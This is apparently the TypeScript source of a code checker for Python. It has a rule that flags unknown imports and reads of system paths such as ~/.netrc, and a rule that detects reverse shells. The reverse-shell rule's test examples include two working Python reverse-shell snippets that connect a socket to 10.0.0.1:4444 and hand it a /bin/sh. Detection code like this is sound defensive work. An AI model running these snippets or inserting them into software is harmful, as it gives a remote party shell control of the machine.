import { accessMatches } from '../../access.ts';
import { type CodeRule, needs, shows } from '../../rule.ts';
import { text as known, textsOf } from '../../value.ts';
import { standardModules } from '../names.ts';

/** Modules of the standard library that open the files they are given, in ways no other rule reads. */
const openers: ReadonlySet<string> = new Set(
  'aifc bz2 compileall dbm filecmp gzip imghdr linecache lzma mailbox mimetypes modulefinder netrc plistlib py_compile sndhdr sunau tokenize wave xml zipapp zipimport'.split(
    ' ',
  ),
);
/** A module that is not known is given a path of the system: it will do something with it. */
const systemPlace = /^(\/(etc|root|proc|sys|usr|var|home|boot|dev)(\/|$)|~\/)/;

export const modules: CodeRule = {
  name: 'modules',
  about: 'Imports modules that are neither of the standard library nor files of the program.',
  languages: ['python'],
  bad: [
    "from watchdog.observers import Observer\nObserver().schedule(handler, '/root')",
    'import numpy as np',
    "import sys\nsys.path.insert(0, '/srv/elsewhere')",
    "import mailbox\nmailbox.mbox('/var/mail/root')",
    'from requests import get',
    'import solution_of_somebody_else',
  ],
  good: [
    'import json, math',
    'from collections import Counter',
    'from . import own',
    'from __future__ import annotations',
  ],
  *check(facts, context) {
    for (const use of facts.uses) {
      const top = use.path.split('.')[0]?.replace(/\(\)$/, '') ?? use.path;
      if (use.form === 'call' && use.path === 'netrc.netrc' && use.args.length === 0)
        yield* accessMatches('read', known('~/.netrc'), use.at);
      if (use.form === 'call' && /^sys\.path\.(insert|append|extend)$/.test(use.path))
        for (const place of use.args.flatMap((argument) =>
          argument.kind === 'list' ? argument.items : [argument],
        ))
          if (place.kind === 'text') yield* accessMatches('read', place, use.at);
      if (use.form === 'call') {
        const foreign =
          use.path.includes('.') &&
          (openers.has(top) || !standardModules.has(top)) &&
          !context.ownModules.has(top);
        const place = foreign
          ? use.args.flatMap((argument) => textsOf(argument)).find(({ text }) => systemPlace.test(text))
          : undefined;
        if (place !== undefined) yield* accessMatches('read', known(place.text, place.whole), use.at);
      }
      if (use.form !== 'import' || use.path.startsWith('.')) continue;
      if (!standardModules.has(top) && !context.ownModules.has(top))
        yield needs(
          'import.unknown',
          use.at,
          `The module ${top} is neither of the standard library nor a file of the program; it may not be installed.`,
        );
    }
  },
};

/** A socket whose descriptor becomes a process's input and output. */
export const reverseShell: CodeRule = {
  name: 'reverse-shell',
  about: 'Gives a shell to whoever is at the other end of a connection.',
  languages: ['python'],
  cwe: 'CWE-506',
  bad: [
    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    "import socket, os, pty\ns = socket.socket()\ns.connect((host, port))\n[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('sh')",
  ],
  good: ['import os\nos.dup2(1, 2)', "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))"],
  *check(facts) {
    const called = facts.uses.filter((use) => use.form === 'call');
    const connects = called.some(({ path }) =>
      /^socket\.(socket\(\)\.connect(_ex)?|create_connection)$/.test(path),
    );
    const starts = called.some(({ path }) =>
      /^(subprocess\.\w+|os\.(system|popen|exec\w+|spawn\w+)|pty\.spawn)$/.test(path),
    );
    const redirects = called.find(
      ({ path, args }) =>
        path === 'os.dup2' ||
        (path.startsWith('subprocess.') &&
          args.some((value) => value.kind === 'name' && /fileno|makefile/.test(value.path))),
    );
    if (connects && starts && redirects !== undefined)
      yield shows(
        'deny',
        redirects.at,
        'Gives a shell to whoever is at the other end of a connection. No program of this kind needs that.',
        ['net.client', 'process.spawn'],
      );
  },
};
